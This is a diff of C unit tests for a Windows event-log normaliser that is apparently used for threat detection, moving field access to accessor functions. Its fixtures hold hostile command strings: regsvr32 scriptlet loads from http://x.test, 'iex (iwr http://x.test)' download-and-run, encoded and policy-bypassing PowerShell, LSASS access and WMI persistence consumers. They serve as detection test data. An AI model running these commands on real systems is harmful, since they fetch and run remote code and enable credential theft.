@@ -116,13 +116,13 @@ START_TEST(test_service_7045)
 	    NELEM(d));
 
 	ck_assert_int_eq(ev->kind, EV_KIND_SERVICE);
-	ck_assert_str_eq(ev->col[EV_COL_SERVICE_NAME], "updater");
-	ck_assert_str_eq(ev->col[EV_COL_COMMAND_LINE],
+	ck_assert_str_eq(ev_col(ev, EV_COL_SERVICE_NAME), "updater");
+	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE),
 	    "C:\\Program Files\\Up Date\\up.exe -k run");
-	ck_assert_str_eq(ev->col[EV_COL_IMAGE],
+	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE),
 	    "C:\\Program Files\\Up Date\\up.exe");
-	ck_assert_str_eq(ev->col[EV_COL_START_TYPE], "auto start");
-	ck_assert_str_eq(ev->col[EV_COL_USER], "LocalSystem");
+	ck_assert_str_eq(ev_col(ev, EV_COL_START_TYPE), "auto start");
+	ck_assert_str_eq(ev_col(ev, EV_COL_USER), "LocalSystem");
 	ck_assert(ev_examinable(ev));
 }
 END_TEST
@@ -153,21 +153,21 @@ START_TEST(test_service_4697)
 	struct ev_event *ev = normalised(EV_PROVIDER_SECURITY, "Security",
 	    4697, d, NELEM(d));
 
-	ck_assert_str_eq(ev->col[EV_COL_IMAGE],
+	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE),
 	    "C:\\Windows\\System32\\rundll32.exe");
-	ck_assert_str_eq(ev->col[EV_COL_START_TYPE], "demand start");
-	ck_assert_str_eq(ev->col[EV_COL_USER], "LocalSystem");
-	ck_assert_str_eq(ev->col[EV_COL_LOGON_ID], "0x5c3f1");
+	ck_assert_str_eq(ev_col(ev, EV_COL_START_TYPE), "demand start");
+	ck_assert_str_eq(ev_col(ev, EV_COL_USER), "LocalSystem");
+	ck_assert_str_eq(ev_col(ev, EV_COL_LOGON_ID), "0x5c3f1");
 	/* the .exe of an argument is not the image */
 	ev = normalised(EV_PROVIDER_SCM, "System", 7045, comspec,
 	    NELEM(comspec));
-	ck_assert_str_eq(ev->col[EV_COL_IMAGE], "%COMSPEC%");
+	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE), "%COMSPEC%");
 	/* no image path: nothing runs, not examinable; odd numbers kept */
 	ev = normalised(EV_PROVIDER_SECURITY, "Security", 4697, odd,
 	    NELEM(odd));
-	ck_assert_ptr_null(ev->col[EV_COL_COMMAND_LINE]);
-	ck_assert_ptr_null(ev->col[EV_COL_IMAGE]);
-	ck_assert_str_eq(ev->col[EV_COL_START_TYPE], "99");
+	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
+	ck_assert_ptr_null(ev_col(ev, EV_COL_IMAGE));
+	ck_assert_str_eq(ev_col(ev, EV_COL_START_TYPE), "99");
 	ck_assert(!ev_examinable(ev));
 }
 END_TEST
@@ -297,14 +297,14 @@ START_TEST(test_task_4698)
 	    4698, d, NELEM(d));
 
 	ck_assert_int_eq(ev->kind, EV_KIND_TASK);
-	ck_assert_str_eq(ev->col[EV_COL_TASK_NAME], "\\Updater");
-	ck_assert_str_eq(ev->col[EV_COL_IMAGE],
+	ck_assert_str_eq(ev_col(ev, EV_COL_TASK_NAME), "\\Updater");
+	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE),
 	    "C:\\Windows\\System32\\regsvr32.exe");
-	ck_assert_str_eq(ev->col[EV_COL_COMMAND_LINE],
+	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE),
 	    "C:\\Windows\\System32\\regsvr32.exe /s /n /u "
 	    "/i:http://x.test/a.sct scrobj.dll\ncmd.exe");
-	ck_assert_str_eq(ev->col[EV_COL_USER], "CORP\\alice");
-	ck_assert_str_eq(ev->col[EV_COL_PID], "496");
+	ck_assert_str_eq(ev_col(ev, EV_COL_USER), "CORP\\alice");
+	ck_assert_str_eq(ev_col(ev, EV_COL_PID), "496");
 	ck_assert(ev_examinable(ev));
 }
 END_TEST
@@ -331,18 +331,18 @@ START_TEST(test_sysmon_dns_file)
 	    "Microsoft-Windows-Sysmon/Operational", 22, dns, NELEM(dns));
 
 	ck_assert_int_eq(ev->kind, EV_KIND_DNS);
-	ck_assert_str_eq(ev->col[EV_COL_QUERY_NAME], "x.test");
-	ck_assert_str_eq(ev->col[EV_COL_QUERY_RESULTS], "::ffff:192.0.2.7;");
-	ck_assert_str_eq(ev->col[EV_COL_PID], "4242");
-	ck_assert_str_eq(ev->col[EV_COL_IMAGE],
+	ck_assert_str_eq(ev_col(ev, EV_COL_QUERY_NAME), "x.test");
+	ck_assert_str_eq(ev_col(ev, EV_COL_QUERY_RESULTS), "::ffff:192.0.2.7;");
+	ck_assert_str_eq(ev_col(ev, EV_COL_PID), "4242");
+	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE),
 	    "C:\\Windows\\System32\\certutil.exe");
 	ck_assert(!ev_examinable(ev));
 	ev = normalised(EV_PROVIDER_SYSMON,
 	    "Microsoft-Windows-Sysmon/Operational", 11, file, NELEM(file));
 	ck_assert_int_eq(ev->kind, EV_KIND_FILE);
-	ck_assert_str_eq(ev->col[EV_COL_TARGET_FILENAME],
+	ck_assert_str_eq(ev_col(ev, EV_COL_TARGET_FILENAME),
 	    "C:\\Users\\alice\\AppData\\Local\\Temp\\a.exe");
-	ck_assert_str_eq(ev->col[EV_COL_PROCESS_GUID],
+	ck_assert_str_eq(ev_col(ev, EV_COL_PROCESS_GUID),
 	    "{11111111-2222-3333-4444-555555555555}");
 }
 END_TEST
@@ -360,7 +360,7 @@ access_at(const char *host, uint64_t t, uint32_t id, const struct ev_pair *d,
 	struct ev_event *ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN8, id,
 	    d, n);
 
-	ev->col[EV_COL_COMPUTER] = host;
+	ck_assert_int_eq(ev_col_set(ev, EV_COL_COMPUTER, host, &arena), 0);
 	ev->time = t;
 	return ev;
 }
@@ -408,19 +408,20 @@ START_TEST(test_sysmon_access)
 	struct ev_event *ev = access_at("A", 1, 8, ct, NELEM(ct));
 
 	ck_assert_int_eq(ev->kind, EV_KIND_REMOTE_THREAD);
-	ck_assert_str_eq(ev->col[EV_COL_PROCESS_GUID],
+	ck_assert_str_eq(ev_col(ev, EV_COL_PROCESS_GUID),
 	    "{AAAAAAAA-0000-0000-0000-0001}");
-	ck_assert_str_eq(ev->col[EV_COL_PID], "4324");
-	ck_assert_str_eq(ev->col[EV_COL_IMAGE], MIMI);
-	ck_assert_str_eq(ev->col[EV_COL_USER], "CORP\\bob");
-	ck_assert_str_eq(ev->col[EV_COL_TARGET_PROCESS_GUID],
+	ck_assert_str_eq(ev_col(ev, EV_COL_PID), "4324");
+	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE), MIMI);
+	ck_assert_str_eq(ev_col(ev, EV_COL_USER), "CORP\\bob");
+	ck_assert_str_eq(ev_col(ev, EV_COL_TARGET_PROCESS_GUID),
 	    "{AAAAAAAA-0000-0000-0000-0002}");
-	ck_assert_str_eq(ev->col[EV_COL_TARGET_PID], "640");
-	ck_assert_str_eq(ev->col[EV_COL_TARGET_IMAGE], LSASS);
-	ck_assert_str_eq(ev->col[EV_COL_START_ADDRESS], "0x00007FF6A1B20000");
-	ck_assert_str_eq(ev->col[EV_COL_START_MODULE], "-");
-	ck_assert_ptr_null(ev->col[EV_COL_GRANTED_ACCESS]);
-	ck_assert_ptr_null(ev->col[EV_COL_COMMAND_LINE]);
+	ck_assert_str_eq(ev_col(ev, EV_COL_TARGET_PID), "640");
+	ck_assert_str_eq(ev_col(ev, EV_COL_TARGET_IMAGE), LSASS);
+	ck_assert_str_eq(ev_col(ev, EV_COL_START_ADDRESS),
+	    "0x00007FF6A1B20000");
+	ck_assert_str_eq(ev_col(ev, EV_COL_START_MODULE), "-");
+	ck_assert_ptr_null(ev_col(ev, EV_COL_GRANTED_ACCESS));
+	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
 	ck_assert(!ev_examinable(ev));
 	/* the original fields stay in data, as logged, for the rules */
 	ck_assert_str_eq(ev_data(ev, "SourceProcessId"), "0x10e4");
@@ -428,15 +429,15 @@ START_TEST(test_sysmon_access)
 
 	ev = access_at("A", 1, 10, pa, NELEM(pa));
 	ck_assert_int_eq(ev->kind, EV_KIND_PROCESS_ACCESS);
-	ck_assert_str_eq(ev->col[EV_COL_PROCESS_GUID],
+	ck_assert_str_eq(ev_col(ev, EV_COL_PROCESS_GUID),
 	    "{AAAAAAAA-0000-0000-0000-0001}");
-	ck_assert_str_eq(ev->col[EV_COL_TARGET_PROCESS_GUID],
+	ck_assert_str_eq(ev_col(ev, EV_COL_TARGET_PROCESS_GUID),
 	    "{AAAAAAAA-0000-0000-0000-0002}");
-	ck_assert_str_eq(ev->col[EV_COL_GRANTED_ACCESS], "0x1010");
-	ck_assert_str_eq(ev->col[EV_COL_CALL_TRACE],
+	ck_assert_str_eq(ev_col(ev, EV_COL_GRANTED_ACCESS), "0x1010");
+	ck_assert_str_eq(ev_col(ev, EV_COL_CALL_TRACE),
 	    "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4");
-	ck_assert_ptr_null(ev->col[EV_COL_START_ADDRESS]);
-	ck_assert_ptr_null(ev->col[EV_COL_USER]);
+	ck_assert_ptr_null(ev_col(ev, EV_COL_START_ADDRESS));
+	ck_assert_ptr_null(ev_col(ev, EV_COL_USER));
 }
 END_TEST
 
@@ -507,18 +508,18 @@ START_TEST(test_powershell_pipeline)
 	    "Microsoft-Windows-PowerShell/Operational", 4103, m, NELEM(m));
 
 	ck_assert_int_eq(ev->kind, EV_KIND_POWERSHELL);
-	ck_assert_str_eq(ev->col[EV_COL_COMMAND_LINE],
+	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE),
 	    "powershell.exe -enc SQBFAFgA");
-	ck_assert_str_eq(ev->col[EV_COL_IMAGE], "powershell.exe");
-	ck_assert_str_eq(ev->col[EV_COL_SCRIPT_TEXT],
+	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE), "powershell.exe");
+	ck_assert_str_eq(ev_col(ev, EV_COL_SCRIPT_TEXT),
 	    "CommandInvocation(Invoke-Expression)");
 	ck_assert(ev_examinable(ev));
 	/* an empty host application: not examinable, what ran kept */
 	ev = normalised(EV_PROVIDER_POWERSHELL,
 	    "Microsoft-Windows-PowerShell/Operational", 4103, bare,
 	    NELEM(bare));
-	ck_assert_ptr_null(ev->col[EV_COL_COMMAND_LINE]);
-	ck_assert_str_eq(ev->col[EV_COL_SCRIPT_TEXT], "Get-Date");
+	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
+	ck_assert_str_eq(ev_col(ev, EV_COL_SCRIPT_TEXT), "Get-Date");
 	ck_assert(!ev_examinable(ev));
 }
 END_TEST
@@ -558,37 +559,37 @@ START_TEST(test_powershell_classic)
 	    strlen(EV_PROVIDER_SYSMON), 400), EV_KIND_NONE);
 	ev = normalised("PowerShell", "Windows PowerShell", 400, start,
 	    NELEM(start));
-	ck_assert_str_eq(ev->col[EV_COL_COMMAND_LINE],
+	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE),
 	    "powershell.exe -ep bypass -f a.ps1");
-	ck_assert_str_eq(ev->col[EV_COL_IMAGE], "powershell.exe");
-	ck_assert_str_eq(ev->col[EV_COL_PS_HOST_NAME], "ConsoleHost");
-	ck_assert_str_eq(ev->col[EV_COL_PS_HOST_VERSION], "5.1.1");
-	ck_assert_str_eq(ev->col[EV_COL_PS_ENGINE_VERSION], "5.1.1");
-	ck_assert_ptr_null(ev->col[EV_COL_SCRIPT_TEXT]);
+	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE), "powershell.exe");
+	ck_assert_str_eq(ev_col(ev, EV_COL_PS_HOST_NAME), "ConsoleHost");
+	ck_assert_str_eq(ev_col(ev, EV_COL_PS_HOST_VERSION), "5.1.1");
+	ck_assert_str_eq(ev_col(ev, EV_COL_PS_ENGINE_VERSION), "5.1.1");
+	ck_assert_ptr_null(ev_col(ev, EV_COL_SCRIPT_TEXT));
 	ck_assert(ev_examinable(ev));
 	ck_assert(!ev_pwsh_downgrade(ev));
 	/* the 2.0 engine: no HostApplication, an empty EngineVersion */
 	ev = normalised("PowerShell", "Windows PowerShell", 400, v2,
 	    NELEM(v2));
-	ck_assert_ptr_null(ev->col[EV_COL_COMMAND_LINE]);
-	ck_assert_ptr_null(ev->col[EV_COL_PS_ENGINE_VERSION]);
-	ck_assert_str_eq(ev->col[EV_COL_PS_HOST_VERSION], "2.0");
+	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
+	ck_assert_ptr_null(ev_col(ev, EV_COL_PS_ENGINE_VERSION));
+	ck_assert_str_eq(ev_col(ev, EV_COL_PS_HOST_VERSION), "2.0");
 	ck_assert(ev_pwsh_downgrade(ev));
 	ck_assert(!ev_examinable(ev));
 	/* 800 without a CommandLine: the pipeline's details */
 	ev = normalised("PowerShell", "Windows PowerShell", 800, pipe,
 	    NELEM(pipe));
-	ck_assert_str_eq(ev->col[EV_COL_COMMAND_LINE], "powershell");
-	ck_assert_str_eq(ev->col[EV_COL_SCRIPT_TEXT],
+	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE), "powershell");
+	ck_assert_str_eq(ev_col(ev, EV_COL_SCRIPT_TEXT),
 	    "CommandInvocation(Out-Default): \"Out-Default\"");
 	ck_assert(!ev_pwsh_downgrade(ev));
 	/* keys only as whole line starts: nothing here */
 	ev = normalised("PowerShell", "Windows PowerShell", 400, none,
 	    NELEM(none));
-	ck_assert_ptr_null(ev->col[EV_COL_COMMAND_LINE]);
-	ck_assert_ptr_null(ev->col[EV_COL_PS_HOST_NAME]);
+	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
+	ck_assert_ptr_null(ev_col(ev, EV_COL_PS_HOST_NAME));
 	ev = normalised("PowerShell", "Windows PowerShell", 800, none, 0);
-	ck_assert_ptr_null(ev->col[EV_COL_COMMAND_LINE]);
+	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
 }
 END_TEST
 
@@ -629,40 +630,40 @@ START_TEST(test_wmi_sysmon)
 
 	ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, 19, f, NELEM(f));
 	ck_assert_int_eq(ev->kind, EV_KIND_WMI);
-	ck_assert_str_eq(ev->col[EV_COL_WMI_FILTER], "Upd \"x\"");
-	ck_assert_str_eq(ev->col[EV_COL_WMI_NAMESPACE], "root\\cimv2");
-	ck_assert_str_eq(ev->col[EV_COL_WMI_QUERY],
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_FILTER), "Upd \"x\"");
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_NAMESPACE), "root\\cimv2");
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_QUERY),
 	    "SELECT * FROM __InstanceModificationEvent");
-	ck_assert_str_eq(ev->col[EV_COL_WMI_OPERATION], "Created");
-	ck_assert_str_eq(ev->col[EV_COL_USER], "CORP\\bob");
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_OPERATION), "Created");
+	ck_assert_str_eq(ev_col(ev, EV_COL_USER), "CORP\\bob");
 	ck_assert(!ev_examinable(ev));
 
 	ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, 20, c, NELEM(c));
-	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER], "Upd");
-	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER_CLASS],
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER), "Upd");
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER_CLASS),
 	    "CommandLineEventConsumer");
-	ck_assert_str_eq(ev->col[EV_COL_COMMAND_LINE],
+	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE),
 	    "C:\\Windows\\System32\\regsvr32.exe /s /i:http://x/p.sct "
 	    "scrobj.dll");
-	ck_assert_str_eq(ev->col[EV_COL_IMAGE],
+	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE),
 	    "C:\\Windows\\System32\\regsvr32.exe");
-	ck_assert_ptr_null(ev->col[EV_COL_SCRIPT_TEXT]);
+	ck_assert_ptr_null(ev_col(ev, EV_COL_SCRIPT_TEXT));
 	ck_assert(ev_examinable(ev));
 
 	ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, 20, sc, NELEM(sc));
-	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER_CLASS],
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER_CLASS),
 	    "ActiveScriptEventConsumer");
-	ck_assert_str_eq(ev->col[EV_COL_SCRIPT_TEXT],
+	ck_assert_str_eq(ev_col(ev, EV_COL_SCRIPT_TEXT),
 	    "GetObject(\"winmgmts:\")");
-	ck_assert_ptr_null(ev->col[EV_COL_COMMAND_LINE]);
+	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
 	ck_assert(ev_examinable(ev));
 
 	ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, 21, b, NELEM(b));
-	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER], "Upd");
-	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER_CLASS],
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER), "Upd");
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER_CLASS),
 	    "CommandLineEventConsumer");
-	ck_assert_str_eq(ev->col[EV_COL_WMI_FILTER], "Upd \"x\"");
-	ck_assert_ptr_null(ev->col[EV_COL_COMMAND_LINE]);
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_FILTER), "Upd \"x\"");
+	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
 }
 END_TEST
 
@@ -710,41 +711,41 @@ START_TEST(test_wmi_5861)
 
 	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, d, NELEM(d));
 	ck_assert_int_eq(ev->kind, EV_KIND_WMI);
-	ck_assert_str_eq(ev->col[EV_COL_WMI_FILTER], "Upd");
-	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER], "Upd");
-	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER_CLASS],
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_FILTER), "Upd");
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER), "Upd");
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER_CLASS),
 	    "CommandLineEventConsumer");
-	ck_assert_str_eq(ev->col[EV_COL_WMI_NAMESPACE], "root\\cimv2");
-	ck_assert_str_eq(ev->col[EV_COL_WMI_QUERY], "SELECT * FROM "
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_NAMESPACE), "root\\cimv2");
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_QUERY), "SELECT * FROM "
 	    "__InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
 	    "'Win32_PerfFormattedData_PerfOS_System'");
-	ck_assert_str_eq(ev->col[EV_COL_COMMAND_LINE],
+	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE),
 	    "C:\\Windows\\System32\\regsvr32.exe /s /n /u /i:http://x/p.sct "
 	    "scrobj.dll");
-	ck_assert_str_eq(ev->col[EV_COL_IMAGE],
+	ck_assert_str_eq(ev_col(ev, EV_COL_IMAGE),
 	    "C:\\Windows\\System32\\regsvr32.exe");
-	ck_assert_ptr_null(ev->col[EV_COL_WMI_OPERATION]);
+	ck_assert_ptr_null(ev_col(ev, EV_COL_WMI_OPERATION));
 	ck_assert(ev_examinable(ev));
 
 	/* names from the MOF when ESS and CONSUMER are empty; a script */
 	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, script,
 	    NELEM(script));
-	ck_assert_str_eq(ev->col[EV_COL_WMI_FILTER], "Upd");
-	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER], "S");
-	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER_CLASS],
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_FILTER), "Upd");
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER), "S");
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER_CLASS),
 	    "ActiveScriptEventConsumer");
-	ck_assert_str_eq(ev->col[EV_COL_SCRIPT_TEXT],
+	ck_assert_str_eq(ev_col(ev, EV_COL_SCRIPT_TEXT),
 	    "var a = \"b;c\";\nrun(a);");
-	ck_assert_ptr_null(ev->col[EV_COL_COMMAND_LINE]);
+	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
 
 	/* Windows' own: runs nothing, so shows nothing of what ran */
 	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, evlog,
 	    NELEM(evlog));
-	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER_CLASS],
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER_CLASS),
 	    "NTEventLogEventConsumer");
-	ck_assert_str_eq(ev->col[EV_COL_WMI_NAMESPACE],
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_NAMESPACE),
 	    "//./root/subscription");
-	ck_assert_ptr_null(ev->col[EV_COL_WMI_QUERY]);
+	ck_assert_ptr_null(ev_col(ev, EV_COL_WMI_QUERY));
 	ck_assert(!ev_examinable(ev));
 }
 END_TEST
@@ -775,19 +776,19 @@ START_TEST(test_wmi_hostile)
 		ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, id, none, 1);
 		ck_assert_int_eq(ev->kind, EV_KIND_WMI);
 		for (int c = EV_COL_WMI_OPERATION; c <= EV_COL_WMI_QUERY; c++)
-			ck_assert_ptr_null(ev->col[c]);
-		ck_assert_ptr_null(ev->col[EV_COL_COMMAND_LINE]);
+			ck_assert_ptr_null(ev_col(ev, c));
+		ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
 		ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, id, odd,
 		    NELEM(odd));
 	}
-	ck_assert_str_eq(ev->col[EV_COL_WMI_CONSUMER_CLASS], "no name here");
-	ck_assert_ptr_null(ev->col[EV_COL_WMI_CONSUMER]);
-	ck_assert_str_eq(ev->col[EV_COL_WMI_FILTER], "open");
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_CONSUMER_CLASS), "no name here");
+	ck_assert_ptr_null(ev_col(ev, EV_COL_WMI_CONSUMER));
+	ck_assert_str_eq(ev_col(ev, EV_COL_WMI_FILTER), "open");
 	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, cause, NELEM(cause));
-	ck_assert_ptr_null(ev->col[EV_COL_WMI_CONSUMER]);
-	ck_assert_ptr_null(ev->col[EV_COL_WMI_FILTER]);
+	ck_assert_ptr_null(ev_col(ev, EV_COL_WMI_CONSUMER));
+	ck_assert_ptr_null(ev_col(ev, EV_COL_WMI_FILTER));
 	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, none, 1);
-	ck_assert_ptr_null(ev->col[EV_COL_WMI_FILTER]);
+	ck_assert_ptr_null(ev_col(ev, EV_COL_WMI_FILTER));
 
 	/* a 2 MiB Destination is kept whole; a 2 MiB PossibleCause is
 	   read to EV_WMI_TEXT_MAX: the command after it is not seen */
@@ -798,17 +799,17 @@ START_TEST(test_wmi_hostile)
 	hd[0] = (struct ev_pair){ "Type", "Command Line" };
 	hd[1] = (struct ev_pair){ "Destination", huge };
 	ev = normalised(EV_PROVIDER_SYSMON, SYSMON_CHAN, 20, hd, 2);
-	ck_assert_uint_eq(strlen(ev->col[EV_COL_COMMAND_LINE]), big);
+	ck_assert_uint_eq(strlen(ev_col(ev, EV_COL_COMMAND_LINE)), big);
 	memset(huge, ' ', big);
 	memcpy(huge + big - 8, "\nA = \"b\"", 9);
 	memcpy(huge, "instance of X\n{\n", 16);
 	memcpy(huge + big - 40, "\tCommandLineTemplate = \"a.exe\";\n", 32);
 	hd[0] = (struct ev_pair){ "PossibleCause", huge };
 	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, hd, 1);
-	ck_assert_ptr_null(ev->col[EV_COL_COMMAND_LINE]);
+	ck_assert_ptr_null(ev_col(ev, EV_COL_COMMAND_LINE));
 	memcpy(huge + 100, "\tCommandLineTemplate = \"b.exe\";\n", 32);
 	ev = normalised(EV_PROVIDER_WMI, WMI_CHAN, 5861, hd, 1);
-	ck_assert_str_eq(ev->col[EV_COL_COMMAND_LINE], "b.exe");
+	ck_assert_str_eq(ev_col(ev, EV_COL_COMMAND_LINE), "b.exe");
 	free(huge);
 }
 END_TEST
@@ -823,7 +824,7 @@ wmi_at(const char *host, uint64_t t, uint32_t id, const struct ev_pair *d,
 	struct ev_event *ev = normalised(id == 5861 ? EV_PROVIDER_WMI :
 	    EV_PROVIDER_SYSMON, id == 5861 ? WMI_CHAN : SYSMON_CHAN, id, d, n);
 
-	ev->col[EV_COL_COMPUTER] = host;
+	ck_assert_int_eq(ev_col_set(ev, EV_COL_COMPUTER, host, &arena), 0);
 	ev->time = t;
 	return ev;
 }
@@ -1078,11 +1079,12 @@ START_TEST(test_script_one_part)
 	struct ev_event *ev = part("{a}", 1, 1, "iex (iwr http://x.test)", 1);
 
 	ck_assert_int_eq(ev->kind, EV_KIND_SCRIPT);
-	ck_assert_str_eq(ev->col[EV_COL_SCRIPT_TEXT], "iex (iwr http://x.test)");
-	ck_assert_str_eq(ev->col[EV_COL_SCRIPT_PART], "1/1");
-	ck_assert_str_eq(ev->col[EV_COL_SCRIPT_BLOCK_ID], "{a}");
-	ck_assert_ptr_null(ev->col[EV_COL_SCRIPT_PATH]);
-	ck_assert_ptr_null(ev->col[EV_COL_SCRIPT_NOTE]);
+	ck_assert_str_eq(ev_col(ev, EV_COL_SCRIPT_TEXT),
+	    "iex (iwr http://x.test)");
+	ck_assert_str_eq(ev_col(ev, EV_COL_SCRIPT_PART), "1/1");
+	ck_assert_str_eq(ev_col(ev, EV_COL_SCRIPT_BLOCK_ID), "{a}");
+	ck_assert_ptr_null(ev_col(ev, EV_COL_SCRIPT_PATH));
+	ck_assert_ptr_null(ev_col(ev, EV_COL_SCRIPT_NOTE));
 	ck_assert(ev_examinable(ev));
 }
 END_TEST
@@ -1100,16 +1102,16 @@ START_TEST(test_script_join)
 	ev[5] = part("{b}", 2, 3, "B", 13);	/* forwarded twice */
 	ev[6] = part("{c}", 1, 1, "alone", 13);
 	ck_assert_int_eq(ev_scripts_join(ev, 7, &arena), 0);
-	ck_assert_str_eq(ev[3]->col[EV_COL_SCRIPT_TEXT], "one-two");
-	ck_assert_ptr_null(ev[3]->col[EV_COL_SCRIPT_NOTE]);
-	ck_assert_ptr_null(ev[1]->col[EV_COL_SCRIPT_TEXT]);
-	ck_assert_str_eq(ev[2]->col[EV_COL_SCRIPT_TEXT], "ABC");
-	ck_assert_ptr_null(ev[2]->col[EV_COL_SCRIPT_NOTE]);
-	ck_assert_ptr_null(ev[0]->col[EV_COL_SCRIPT_TEXT]);
-	ck_assert_ptr_null(ev[4]->col[EV_COL_SCRIPT_TEXT]);
-	ck_assert_ptr_null(ev[5]->col[EV_COL_SCRIPT_TEXT]);
-	ck_assert_str_eq(ev[6]->col[EV_COL_SCRIPT_TEXT], "alone");
-	ck_assert_str_eq(ev[4]->col[EV_COL_SCRIPT_PART], "2/3");
+	ck_assert_str_eq(ev_col(ev[3], EV_COL_SCRIPT_TEXT), "one-two");
+	ck_assert_ptr_null(ev_col(ev[3], EV_COL_SCRIPT_NOTE));
+	ck_assert_ptr_null(ev_col(ev[1], EV_COL_SCRIPT_TEXT));
+	ck_assert_str_eq(ev_col(ev[2], EV_COL_SCRIPT_TEXT), "ABC");
+	ck_assert_ptr_null(ev_col(ev[2], EV_COL_SCRIPT_NOTE));
+	ck_assert_ptr_null(ev_col(ev[0], EV_COL_SCRIPT_TEXT));
+	ck_assert_ptr_null(ev_col(ev[4], EV_COL_SCRIPT_TEXT));
+	ck_assert_ptr_null(ev_col(ev[5], EV_COL_SCRIPT_TEXT));
+	ck_assert_str_eq(ev_col(ev[6], EV_COL_SCRIPT_TEXT), "alone");
+	ck_assert_str_eq(ev_col(ev[4], EV_COL_SCRIPT_PART), "2/3");
 }
 END_TEST
 
@@ -1120,13 +1122,14 @@ START_TEST(test_script_hosts)
 
 	ev[0] = part("{a}", 1, 2, "x", 1);
 	ev[1] = part("{a}", 2, 2, "y", 2);
-	ev[1]->col[EV_COL_COMPUTER] = "OTHER";
+	ck_assert_int_eq(ev_col_set(ev[1], EV_COL_COMPUTER, "OTHER", &arena),
+	    0);
 	ck_assert_int_eq(ev_scripts_join(ev, 2, &arena), 0);
-	ck_assert_str_eq(ev[0]->col[EV_COL_SCRIPT_TEXT], "x");
-	ck_assert_str_eq(ev[0]->col[EV_COL_SCRIPT_NOTE],
+	ck_assert_str_eq(ev_col(ev[0], EV_COL_SCRIPT_TEXT), "x");
+	ck_assert_str_eq(ev_col(ev[0], EV_COL_SCRIPT_NOTE),
 	    "partial: 1 of 2 parts (missing 2)");
-	ck_assert_str_eq(ev[1]->col[EV_COL_SCRIPT_TEXT], "y");
-	ck_assert_str_eq(ev[1]->col[EV_COL_SCRIPT_NOTE],
+	ck_assert_str_eq(ev_col(ev[1], EV_COL_SCRIPT_TEXT), "y");
+	ck_assert_str_eq(ev_col(ev[1], EV_COL_SCRIPT_NOTE),
 	    "partial: 1 of 2 parts (missing 1)");
 }
 END_TEST
@@ -1140,10 +1143,10 @@ START_TEST(test_script_missing)
